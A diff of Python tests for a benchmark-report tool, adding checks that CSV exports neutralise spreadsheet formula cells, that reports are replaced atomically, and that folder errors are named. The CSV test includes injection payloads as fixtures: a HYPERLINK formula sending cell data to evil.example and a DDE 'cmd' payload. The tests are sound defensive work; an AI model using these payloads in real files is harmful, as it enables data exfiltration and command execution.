@@ -76,10 +76,10 @@ def test_report_charts_tables_and_provenance(tmp_path):
 
 def test_accuracy_columns_appear_when_results_carry_them(tmp_path):
     store = Store(str(tmp_path / "r.db"))
-    base = add_run(store, seed=1, accuracy={"top1_agreement": 0.99, "max_abs_logit_err": 0.03})
-    run = add_run(store, seed=2, accuracy={"top1_agreement": 0.95, "max_abs_logit_err": 0.03})
+    base = add_run(store, seed=1, accuracy={"top1_agreement": 0.99, "max_abs_logit_diff": 0.03})
+    run = add_run(store, seed=2, accuracy={"top1_agreement": 0.95, "max_abs_logit_diff": 0.03})
     html = render_run_report(store, run, tmp_path / "r.html", baseline_run=base, config=config_from(None)).read_text()
-    assert '<th class="accuracy">max_abs_logit_err<br>Δ</th>' in html and "top1_agreement" in html
+    assert '<th class="accuracy">max_abs_logit_diff<br>Δ</th>' in html and "top1_agreement" in html
     assert "0.9500" in html and "-0.0400" in html
     assert "accuracy top1_agreement 0.95 vs baseline 0.99 (drift 0.04 &gt; 0.02)" in html  # fails the gate
 
@@ -103,7 +103,7 @@ def test_exports_share_one_schema(tmp_path, fmt):
     store = Store(str(tmp_path / "r.db"))
     run = add_run(store, "a,b \"c\"\nd", accuracy={"top1_agreement": 0.98})
     out = io.StringIO()
-    export(store.results_frame(run), fmt, out)
+    export(store.results_frame(run), fmt, out, store.accuracy_frame(run))
     text = out.getvalue()
     names = [name for name, _ in FIELDS]
     assert {col for _, col, _ in COLUMNS} <= set(names)  # Markdown shows a subset of the same fields
@@ -166,3 +166,55 @@ def test_hostile_names_render_as_text_everywhere(results_url, tmp_path):
     assert "<script" not in table and not re.search(r"(?<!\\)\]\(javascript", table)  # no tag, no link
     cells_per_row = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
     assert cells_per_row == {len(COLUMNS) + 1}  # no pipe in a name split a row
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path):
+    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading quote, in the
+    CSV only; numbers stay numbers and the JSON export keeps the text as stored."""
+    store = Store(str(tmp_path / "r.db"))
+    cells = [('=HYPERLINK("http://evil.example/?"&A1,"open")', "none", "@SUM(A1:A9)", 900.0, 100.0, 50.0),
+             ("+cmd|' /C calc'!A0", "-2+3", "\tdevice", 800.0, 90.0, 60.0),
+             ("\rmodel", "dynamic_int8", "host", 700.0, 80.0, 70.0)]
+    run = add_run(store, "=1+1", cells=cells)
+    frame = store.results_frame(run)
+    out = io.StringIO()
+    export(frame, "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [(r["model"], r["quant"], r["device"]) for r in rows] == [
+        ("'" + cells[0][0], "none", "'@SUM(A1:A9)"), ("'" + cells[1][0], "'-2+3", "'\tdevice"),
+        ("'\rmodel", "dynamic_int8", "host")]
+    assert {r["label"] for r in rows} == {"'=1+1"}
+    assert float(rows[0]["decode_tok_s"]) > 0 and not rows[0]["decode_tok_s"].startswith("'")
+    out = io.StringIO()
+    export(frame, "json", out)
+    assert [r["model"] for r in json.loads(out.getvalue())] == [c[0] for c in cells]
+
+
+def test_a_report_is_replaced_whole_never_rewritten_under_a_reader(tmp_path):
+    import os
+
+    store = Store(str(tmp_path / "r.db"))
+    first, second = add_run(store, "first-run"), add_run(store, "second-run")
+    out = tmp_path / "report" / "run.html"
+    render_run_report(store, first, out)
+    reader = tmp_path / "what-a-reader-has-open.html"
+    os.link(out, reader)  # the same file a browser or an upload has open while the report is written again
+    before = reader.read_text()
+    render_run_report(store, second, out)
+    assert reader.read_text() == before and "first-run" in before  # not truncated or rewritten under it
+    assert "second-run" in out.read_text() and out.stat().st_ino != reader.stat().st_ino
+    assert [p.name for p in out.parent.iterdir()] == ["run.html"]  # no temporary file left behind
+    umask = os.umask(0)
+    os.umask(umask)
+    assert out.stat().st_mode & 0o777 == 0o666 & ~umask
+
+
+def test_a_report_folder_that_cannot_be_made_is_an_error_naming_it(tmp_path):
+    from reports.render import ReportError
+
+    store = Store(str(tmp_path / "r.db"))
+    run = add_run(store)
+    (tmp_path / "a-file").write_text("in the way\n")
+    with pytest.raises(ReportError, match=f"folder {tmp_path}/a-file/out: {tmp_path}/a-file is a file"):
+        render_dashboard(store, tmp_path / "a-file" / "out" / "dashboard.html")
+    assert len(store.results_frame(run)) == len(CELLS)
